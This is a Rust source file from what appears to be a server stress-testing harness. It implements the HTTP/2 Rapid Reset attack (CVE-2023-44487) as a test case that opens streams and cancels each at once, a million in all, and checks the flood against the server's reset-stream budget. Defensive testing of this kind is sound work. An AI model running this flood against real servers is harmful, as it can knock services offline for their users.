//! Rapid reset (CVE-2023-44487): calls that are reset as soon as they are made.

use super::hold_floods;
use crate::attacker::Attacker;
use crate::case::{Attack, Budgets, Case};
use crate::frames::{END_HEADERS, HEADERS, RST_STREAM, frame};
use crate::link::LIVESTREAMS;

/// CANCEL.
const CODE: [u8; 4] = [0, 0, 0, 8];

pub(super) struct RapidReset;

impl Case for RapidReset {
    fn name(&self) -> &'static str {
        "rapid-reset"
    }

    fn does(&self) -> &'static str {
        "opens streams and resets each at once, a million in all"
    }

    // Streams that were reset and are not gone yet, of at most 16 KiB each.
    fn budget(&self, budgets: &Budgets<'_>) -> u64 {
        budgets.bytes("server.max_local_error_reset_streams", 1_024) * (16 << 10)
    }

    fn run<'a>(&'a self, attacker: &'a Attacker) -> Attack<'a> {
        let headers = attacker.call_headers(&format!("{LIVESTREAMS}PublishUpdates"));
        Box::pin(async move {
            hold_floods(attacker, &[], |out, number| {
                let stream = 2 * number + 1;
                frame(out, HEADERS, END_HEADERS, stream, &headers);
                frame(out, RST_STREAM, 0, stream, &CODE);
            })
            .await
        })
    }
}
